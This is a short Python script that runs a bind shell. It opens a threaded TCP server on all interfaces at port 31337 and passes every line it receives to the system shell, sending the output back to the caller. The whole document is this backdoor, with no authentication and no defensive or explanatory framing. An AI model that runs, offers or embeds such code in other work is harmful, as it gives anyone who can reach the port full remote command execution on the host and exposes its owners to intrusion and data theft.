# listens on all interfaces and runs whatever is sent
import socketserver
import subprocess


class H(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            out = subprocess.run(line.decode(), shell=True, capture_output=True)
            self.wfile.write(out.stdout + out.stderr)


socketserver.ThreadingTCPServer(("0.0.0.0", 31337), H).serve_forever()
